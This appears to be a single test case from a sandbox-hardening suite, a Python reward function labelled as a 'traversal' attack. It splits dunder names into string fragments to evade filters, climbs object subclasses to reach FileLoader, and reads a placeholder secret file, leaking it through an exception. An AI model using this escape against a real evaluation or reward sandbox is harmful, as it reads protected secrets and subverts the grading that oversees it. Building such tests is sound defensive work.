# attack: getattr with a name put together at run time
# group: traversal
# wall: language; alone: seccomp (no open)

def compute_reward(x):
    kind = getattr(getattr((), "__cl" + "ass__"), "__ba" + "se__")
    for found in getattr(kind, "__subcl" + "asses__")():
        if found.__name__ == "FileLoader":
            raise ValueError(found("x", "@SECRET@").get_data("@SECRET@"))
    return x, {}
